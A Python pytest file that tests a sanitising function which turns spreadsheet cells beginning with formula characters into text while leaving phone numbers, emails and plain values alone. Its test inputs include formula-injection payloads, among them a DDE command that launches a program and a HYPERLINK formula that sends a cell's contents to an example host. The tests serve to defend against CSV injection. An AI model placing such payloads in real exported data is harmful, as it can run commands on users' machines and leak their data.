"""What we write for a spreadsheet holds no formula, and its telephone numbers can still be dialled."""

from __future__ import annotations

from typing import Any

import pytest

from include.documents import harmless


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://example.com/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        " =1+1",
        "\u00a0=1+1",
        "\t=1+1",
        "\r=1+1",
        "\nx",
        "＝1+1",
        "＠x",
        "--1",
        "+966 50 000 0001 =1",
        "@handle",
        "-",
    ],
)
def test_a_formula_is_written_as_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell",
    [
        "+966500000001",
        "+966 50 000 0001",
        "+966 (11) 000-0001",
        "-12.5",
        "011-000-0001",
        "info@example.com",
        "a=b",
        "شركة المثال",
        "",
        12,
        0.5,
    ],
)
def test_numbers_and_other_cells_stay_as_they_are(cell: Any) -> None:
    assert harmless(cell) == cell
